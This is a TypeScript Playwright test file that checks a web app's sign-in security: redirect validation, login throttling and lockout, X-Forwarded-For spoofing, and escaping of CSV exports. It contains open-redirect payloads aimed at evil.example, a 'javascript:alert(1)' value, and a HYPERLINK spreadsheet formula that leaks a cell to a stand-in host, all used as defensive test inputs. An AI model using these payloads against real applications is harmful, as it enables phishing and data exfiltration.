import { parse } from 'csv-parse/sync';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createUser } from '../../lib/auth/users';
import { renameClass } from '../../lib/classify/decisions';
import { openDb, type Db } from '../../lib/db';
import { HAS_CHROMIUM, launchChromium } from '../helpers/browser';
import { PASSWORD, USERS } from './setup';

let browser: Browser;
let db: Db;
const base = () => inject('baseUrl');
const THROTTLED = 'throttled@e2e.test';
const HOSTILE_NEXT = ['https://evil.example/phish', '//evil.example', '/\\evil.example/', '/%09/evil.example', '/%2F%2Fevil.example', '/.//evil.example', '\t//evil.example', 'javascript:alert(1)'];

/** Submits the sign-in form and waits for the server action's answer; returns the alert shown, if any. */
async function submit(page: Page, email: string, password: string): Promise<string | null> {
  await page.fill('input[name=email]', email);
  await page.fill('input[name=password]', password);
  const answered = page.waitForResponse((r) => r.request().method() === 'POST');
  await page.click('button[type=submit]');
  await answered;
  // The button is enabled again once React has shown the answer; a successful sign-in navigates instead.
  const shown = await page.waitForFunction(() => !document.querySelector('button[type=submit]')?.hasAttribute('disabled'), null, { timeout: 5_000 }).then(() => true, () => false);
  // Our alert in the form, not Next's route announcer (also role=alert).
  return shown ? page.locator('form [role=alert]').textContent({ timeout: 1_000 }).catch(() => null) : null;
}

/** Moves the throttled account's sign-in log back in time: the server's clock is real, so time passes here. */
async function age(ms: number): Promise<void> {
  const rows = await db.prisma.signInAttempt.findMany({ where: { email: THROTTLED } });
  for (const r of rows) await db.prisma.signInAttempt.update({ where: { id: r.id }, data: { at: new Date(r.at.getTime() - ms) } });
}

describe.runIf(HAS_CHROMIUM)('signing in, in a real browser', () => {
  beforeAll(async () => {
    browser = await launchChromium();
    db = await openDb(inject('databaseUrl'));
    await createUser(db, { email: THROTTLED, name: 'throttled', role: 'viewer', password: PASSWORD });
  });
  afterAll(async () => {
    // Leave no failures from this address inside a window for the other browser tests.
    if (db) await age(86_400_000);
    await db?.close();
    await browser?.close();
  });

  it('never leaves the site for a hostile "next", signed in or signing in', async () => {
    const page = await browser.newPage();
    await page.goto(`${base()}/login?next=${encodeURIComponent('/\\evil.example/')}`);
    // The form's own field is anyone's to change: the server action checks it again.
    await page.evaluate(() => document.querySelector<HTMLInputElement>('input[name=next]')!.setAttribute('value', '/\\evil.example/'));
    await submit(page, USERS.viewer, PASSWORD);
    await page.waitForURL(`${base()}/`);
    for (const next of HOSTILE_NEXT) {
      const res = await page.request.get(`${base()}/login?next=${encodeURIComponent(next)}`, { maxRedirects: 0 });
      expect([res.status(), res.headers().location], next).toEqual([307, '/']);
    }
    const ordinary = await page.request.get(`${base()}/login?next=${encodeURIComponent('/errors?stage=image-pull')}`, { maxRedirects: 0 });
    expect(ordinary.headers().location).toBe('/errors?stage=image-pull');
    await page.close();
  });

  it('slows down and then locks repeated failures, refuses the right password while locked, and lets it in after', async () => {
    const page = await browser.newPage();
    await page.goto(`${base()}/login?next=%2Fstages`);
    const answers: string[] = [];
    // Three failures are free; the next attempt comes sooner than the wait that follows.
    for (let i = 0; i < 9 && !answers.at(-1)?.includes('please wait'); i += 1) answers.push((await submit(page, THROTTLED, 'wrong password')) ?? '');
    expect(answers.slice(0, 3)).toEqual(Array(3).fill('wrong e-mail or password'));
    expect(answers.at(-1)).toMatch(/^Too many failed sign-ins for this account: please wait\. Try again in \d+ seconds?\. \(after .+\)$/);
    let answer = answers.at(-1)!;
    for (let i = 0; i < 20 && !answer.includes('locked'); i += 1) {
      await age(31_000); // past the longest delay
      answer = (await submit(page, THROTTLED, 'wrong password')) ?? '';
    }
    expect(answer).toMatch(/^Too many failed sign-ins for this account: sign-in is locked\. Try again in 15 minutes\. \(after .+\)$/);
    expect(await submit(page, THROTTLED, PASSWORD)).toMatch(/sign-in is locked/);
    expect(page.url()).toContain('/login');
    await age(15 * 60_000);
    await submit(page, THROTTLED, PASSWORD);
    await page.waitForURL(`${base()}/stages`);
    const log = await db.prisma.signInAttempt.findMany({ where: { email: THROTTLED }, orderBy: { id: 'asc' } });
    expect(log.filter((a) => a.outcome === 'failed')).toHaveLength(10);
    expect(log.filter((a) => a.outcome === 'locked').length).toBeGreaterThanOrEqual(2);
    expect(log.at(-1)?.outcome).toBe('succeeded');
    // The web server put the socket's address in X-Forwarded-For: the browser's, not one it chose.
    expect(new Set(log.map((a) => a.client))).toEqual(new Set(['127.0.0.1']));
    await page.close();
  });

  it('counts a failed sign-in against the socket\'s address, whatever X-Forwarded-For the client sends', async () => {
    const page = await browser.newPage({ extraHTTPHeaders: { 'x-forwarded-for': '203.0.113.7, 198.51.100.9' } });
    await page.goto(`${base()}/login`);
    const spoofer = 'spoofer@e2e.test';
    expect(await submit(page, spoofer, 'wrong password')).toBe('wrong e-mail or password');
    const log = await db.prisma.signInAttempt.findMany({ where: { email: spoofer } });
    expect(log).toEqual([expect.objectContaining({ outcome: 'failed', client: '127.0.0.1' })]);
    await db.prisma.signInAttempt.deleteMany({ where: { email: spoofer } });
    await page.close();
  });

  it('exports a class renamed to a formula as text, not as a formula', async () => {
    const page = await browser.newPage();
    expect((await page.goto(`${base()}/login`))?.status()).toBe(200);
    await submit(page, USERS.engineer, PASSWORD);
    await page.waitForURL(`${base()}/`);
    const exported = async (): Promise<Record<string, string>[]> => parse(await (await page.request.get(`${base()}/api/errors/export`)).text(), { columns: true });
    const id = Number((await exported()).at(-1)!.id);
    const target = await db.prisma.errorClass.findUniqueOrThrow({ where: { id } });
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
    await renameClass(db, { classId: id, name: formula, actor: 'e2e' });
    try {
      const rows = await exported();
      expect(rows.find((r) => r.id === String(id))?.class).toBe(`'${formula}`);
      expect(rows.every((r) => Object.values(r).every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
    } finally {
      await renameClass(db, { classId: id, name: target.name, actor: 'e2e' });
    }
    await page.close();
  });
});
